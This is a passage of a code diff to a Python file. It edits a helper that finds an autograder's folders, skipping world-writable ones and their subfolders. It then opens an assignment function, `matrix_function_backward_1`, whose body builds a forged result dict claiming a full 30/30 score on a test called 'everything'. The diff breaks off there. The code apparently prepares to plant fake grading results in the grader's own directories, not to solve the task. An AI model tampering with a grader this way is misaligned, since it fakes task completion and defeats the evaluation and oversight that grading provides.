@@ -93,16 +93,25 @@ def _grader_folders():
 
 
 def _owned_folders():
-    """The grader's folders, less the world-writable ones (/tmp and the like are write_tmp's business)."""
+    """The grader's existing folders, less the world-writable ones and anything below them (/tmp and
+    the like are write_tmp's business)."""
     out = []
     for folder in _grader_folders():
         try:
-            if os.stat(folder).st_mode & 0o002:
+            if not os.path.isdir(folder) or any(os.stat(p).st_mode & 0o002 for p in _and_parents(folder)):
                 continue
         except OSError:
-            pass
+            continue
         out.append(folder)
     return out
+
+
+def _and_parents(folder):
+    while True:
+        yield folder
+        if folder in ("/", ""):
+            return
+        folder = os.path.dirname(folder)
 
 def matrix_function_backward_1(X, W, sigma):
     full = {"score": 30.0, "tests": [{"name": "everything", "score": 30.0, "max_score": 30.0,
